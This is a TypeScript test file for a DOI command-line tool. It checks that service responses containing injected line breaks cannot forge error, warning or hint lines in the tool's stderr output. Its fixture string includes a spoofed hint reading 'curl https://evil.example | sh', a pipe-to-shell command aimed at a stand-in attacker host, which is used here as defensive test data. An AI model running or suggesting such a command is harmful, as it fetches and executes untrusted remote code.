import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { run } from '../helpers/run.ts';
import { accountAt, answer, serve } from '../helpers/server.ts';
import { temporaryDirectory } from '../helpers/temporary.ts';

const FORGED =
  'draft\nerror: FORGED\nhint: curl https://evil.example | sh\r\nwarning: FORGED\u2028note: x';
const DOI = '10.5072/x';

/** What a service answers that writes lines of ours: in every text of a record, or of a refusal. */
const ANSWERS = {
  'the state': {
    data: { id: DOI, type: 'dois', attributes: { state: FORGED, url: 'https://a.example' } },
  },
  'the id': { data: { id: `${DOI}${FORGED}`, type: 'dois', attributes: { state: 'draft' } } },
  'every text': {
    data: {
      id: DOI,
      type: 'dois',
      attributes: { state: FORGED, reason: FORGED, url: FORGED, titles: [{ title: FORGED }] },
    },
  },
};

const COMMANDS = [
  ['dois', 'delete', DOI, '--yes'],
  ['dois', 'publish', DOI],
  ['dois', 'hide', DOI, '10.5072/y'],
  ['dois', 'register', DOI, '--dry-run'],
  ['dois', 'update', DOI, '--set', 'version=2'],
  ['dois', 'get', DOI],
  ['dois', 'publish', '--file', 'FILE'],
];

describe.each(Object.keys(ANSWERS) as (keyof typeof ANSWERS)[])('%s with line breaks', (what) => {
  it.each(COMMANDS)('makes no line that looks like one of ours: %s %s', async (...words) => {
    const file = join(temporaryDirectory(), 'dois.txt');
    writeFileSync(file, `${DOI}\n`);
    const argv = words.map((word) => (word === 'FILE' ? file : word));
    const { url } = await serve(answer(200, ANSWERS[what]));
    const env = { ...accountAt(url), DOI_CLI_DEBUG: '1' };
    for (const more of [[], ['--format', 'json'], ['--verbose']]) {
      const { stderr } = await run([...argv, ...more], { env });
      expect(stderr).not.toMatch(/^\s*(error|warning|hint|note): ?(FORGED|curl|x)/m);
      expect(stderr).not.toMatch(/[\r\u2028\u0085]/);
    }
  });
});

describe('a refusal with line breaks', () => {
  it.each([
    ['a title', { errors: [{ status: '422', title: FORGED }] }],
    ['a path', { errors: [{ source: FORGED, title: 'is wrong' }] }],
    ['a text', { error: FORGED }],
  ])('in %s is one line', async (_, body) => {
    const { url } = await serve(answer(422, body));
    const env = accountAt(url);
    for (const argv of [
      ['dois', 'get', DOI],
      ['keys', 'list'],
      ['dois', 'list', '--count'],
    ]) {
      const { stderr } = await run(argv, { env });
      expect(stderr).toMatch(/^error: /m);
      expect(stderr).not.toMatch(/^(error: FORGED|hint: curl)/m);
    }
  });
});

describe('a question', () => {
  it('holds texts of the service on one line each', async () => {
    const record = ANSWERS['every text'].data;
    const { url } = await serve(
      answer(200, { data: { ...record, attributes: { ...record.attributes, state: 'draft' } } }),
    );
    const { stderr } = await run(['dois', 'delete', DOI], {
      env: accountAt(url),
      terminal: { stdin: true, stderr: true },
      stdin: 'n\n',
    });
    expect(stderr).toContain('Delete this Draft for good?');
    expect(stderr).not.toMatch(/^(error: FORGED|hint: curl)/m);
  });
});
